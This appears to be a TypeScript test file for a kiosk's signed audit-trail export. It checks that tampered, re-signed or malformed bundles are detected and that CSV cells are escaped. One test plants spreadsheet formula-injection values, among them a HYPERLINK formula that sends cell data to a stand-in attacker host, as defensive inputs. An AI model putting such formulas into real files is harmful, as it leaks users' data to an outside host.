// Attacks on the exported audit trail. A bundle edited by hand (an entry changed, removed, moved,
// added, cut off, re-signed with another key), a truncated file, a file that is not JSON: the verify
// command names the first entry that does not match or says what the file is, with its exit code.
// A CSV export's cells cannot run as spreadsheet formulas. (Before this change there was no export,
// no chain and no verify command: every test here failed.)
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test, type TestContext } from 'node:test';
import * as ed from '@noble/ed25519';
import { signBundle, verifyBundleText, type AuditBundle } from '../../shared/audit/bundle.ts';
import { entryHash } from '../../shared/audit/chain.ts';
import { runAuditCli } from '../support/audit-cli.ts';
import { openCore } from '../support/core.ts';
import { item, seed004File } from '../support/requests.ts';
import { tempDir } from '../support/temp.ts';

const KEY = 'AAAAA-11111-BBBBB-22222-CCCCC';

/** A real kiosk's signed bundle of a small day's work, as text. */
async function exportedBundle(t: TestContext): Promise<{ text: string; fingerprint: string }> {
  const kiosk = openCore(tempDir(t), { deliverTo: 'download' });
  t.after(() => kiosk.core.close());
  await kiosk.call('setEngineer', { name: 'Ana Lima', id: null });
  await kiosk.call('capture', { items: Array.from({ length: 8 }, (_, i) => item(`press-${i + 1}.json`, seed004File(KEY, `press-${i + 1}`))) });
  const { fingerprint } = await kiosk.call('getAuditKey', {});
  const result = await kiosk.call('exportAudit', { format: 'bundle', filter: {}, to: 'download' });
  return { text: Buffer.from(result.file!.contentBase64, 'base64').toString('utf8'), fingerprint };
}

const edit = (text: string, change: (bundle: AuditBundle) => void): string => {
  const bundle = JSON.parse(text) as AuditBundle;
  change(bundle);
  return JSON.stringify(bundle, null, 1);
};

test('a bundle edited by hand names the first entry that does not match (exit 1)', async (t) => {
  const { text } = await exportedBundle(t);
  assert.equal(verifyBundleText(text).code, 0);
  const cases: [string, (b: AuditBundle) => void, RegExp][] = [
    ['a detail changed', (b) => (b.entries[4]!.detail = 'Captured from file press-99.json'), /^Audit entry #5 does not match its hash/],
    ['the engineer changed', (b) => (b.entries[2]!.actorName = 'Someone Else'), /^Audit entry #3 does not match its hash/],
    ['a time changed', (b) => (b.entries[6]!.at = '2020-01-01T00:00:00.000Z'), /^Audit entry #7 does not match its hash/],
    ['an entry deleted', (b) => b.entries.splice(3, 1), /^Audit entry #5 does not follow entry #3/],
    ['two entries swapped', (b) => ([b.entries[2], b.entries[3]] = [b.entries[3]!, b.entries[2]!]), /^Audit entry #4 does not follow entry #2/],
    ['an entry inserted', (b) => b.entries.splice(2, 0, { ...b.entries[2]!, detail: 'Delivered to press-1' }), /^Audit entry #3 does not match its hash/],
    ['the first entry removed', (b) => b.entries.shift(), /^Audit entry #2 does not follow the start of the trail/],
    ['the last entries cut off', (b) => b.entries.splice(-2), /signed over 9 entries ending at #9, but holds 7: entries were removed from its end/],
    [
      'an entry appended with a correct link and hash',
      (b) => {
        const last = b.entries.at(-1)!;
        const added = { ...last, seq: last.seq + 1, detail: 'Delivered to press-1', prevHash: last.hash };
        b.entries.push({ ...added, hash: entryHash(added) });
      },
      /^Audit entry #10 is not among the 9 entries the bundle was signed over/,
    ],
  ];
  for (const [what, change, message] of cases) {
    const verdict = verifyBundleText(edit(text, change));
    assert.equal(verdict.code, 1, what);
    assert.match(verdict.message, message, what);
  }
  // The command itself, on one of them.
  const file = path.join(tempDir(t), 'edited.json');
  fs.writeFileSync(file, edit(text, cases[0]![1]));
  const run = await runAuditCli(['verify', file]);
  assert.equal(run.code, 1);
  assert.match(run.stderr, /edited\.json: Audit entry #5 does not match its hash: it was changed after it was written\./);
});

test('a rewritten chain re-signed with another key, or another key put in, fails on the signature or the expected key (exit 2)', async (t) => {
  const { text, fingerprint } = await exportedBundle(t);
  const original = JSON.parse(text) as AuditBundle;
  // Someone rewrites entry 2, recomputes every later hash and signs with their own key.
  const entries = original.entries.map((e) => ({ ...e }));
  entries[1]!.detail = 'Captured from file press-forged.json';
  for (let i = 1; i < entries.length; i++) {
    entries[i]!.prevHash = entries[i - 1]!.hash;
    entries[i]!.hash = entryHash(entries[i]!);
  }
  const forged = JSON.stringify(signBundle(entries, ed.utils.randomSecretKey(), original.exportedAt));
  assert.equal(verifyBundleText(forged).code, 0, 'self-consistent on its own: only the expected key tells');
  const expected = verifyBundleText(forged, { expectedKey: fingerprint });
  assert.equal(expected.code, 2);
  assert.match(expected.message, /not with the key expected/);
  // The same rewrite keeping the kiosk's key and signature: the signature no longer holds.
  const kept = JSON.stringify({ ...JSON.parse(forged), publicKey: original.publicKey, signature: original.signature });
  const verdict = verifyBundleText(kept);
  assert.equal(verdict.code, 2);
  assert.match(verdict.message, /^The signature does not match the bundle's key/);
  const swappedKey = JSON.stringify({ ...original, publicKey: JSON.parse(forged).publicKey });
  assert.equal(verifyBundleText(swappedKey).code, 2);
});

test('a truncated file, a file that is not JSON and another JSON document are refused as unreadable (exit 3)', async (t) => {
  const { text } = await exportedBundle(t);
  const dir = tempDir(t);
  const files = {
    truncated: text.slice(0, Math.floor(text.length / 2)),
    notJson: 'seq,at,actor\n1,2026-11-30,engineer\n',
    otherJson: JSON.stringify({ format: 'activation-kiosk/request', version: 1 }),
    duplicateMember: text.replace('"version": 1,', '"version": 1,\n "version": 1,'),
  };
  const expected: Record<keyof typeof files, RegExp> = {
    truncated: /cut short/,
    notJson: /cannot be read as strict JSON/,
    otherJson: /not an Activation Kiosk audit bundle of version 1/,
    duplicateMember: /cannot be read as strict JSON \(the member "version" appears twice/,
  };
  for (const [name, content] of Object.entries(files) as [keyof typeof files, string][]) {
    const verdict = verifyBundleText(content);
    assert.equal(verdict.code, 3, name);
    assert.match(verdict.message, expected[name], name);
  }
  const file = path.join(dir, 'truncated.json');
  fs.writeFileSync(file, files.truncated);
  const truncated = await runAuditCli(['verify', file]);
  assert.equal(truncated.code, 3);
  assert.match(truncated.stderr, /cut short/);
  const missing = await runAuditCli(['verify', path.join(dir, 'nothing.json')]);
  assert.equal(missing.code, 3);
  assert.match(missing.stderr, /cannot be read \(there is no such file\)/);
});

test('CSV cells that would run as spreadsheet formulas are neutralised', async (t) => {
  const kiosk = openCore(tempDir(t), { deliverTo: 'download' });
  t.after(() => kiosk.core.close());
  await kiosk.call('setEngineer', { name: '=HYPERLINK("http://evil.example/?"&A1,"Open")', id: '+49 151 2345' });
  await kiosk.call('capture', { items: [item('@SUM(1+1)cmd.json', seed004File(KEY, '-2+3')), item('plain.json', seed004File(KEY, 'press-1'))] });
  const csv = await kiosk.call('exportAudit', { format: 'csv', filter: {}, to: 'download' });
  const cells = Buffer.from(csv.file!.contentBase64, 'base64').toString('utf8').split('\r\n').slice(1, -1).flatMap((line) => line.slice(1, -1).split('","'));
  const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
  assert.deepEqual(dangerous, [], 'no cell starts with = + - @ tab or CR');
  assert.ok(cells.includes(`'=HYPERLINK(""http://evil.example/?""&A1,""Open"")`), 'the engineer name is kept, behind an apostrophe');
  assert.ok(cells.includes("'+49 151 2345"));
  assert.ok(cells.includes("'-2+3"), 'the device label from the request');
});
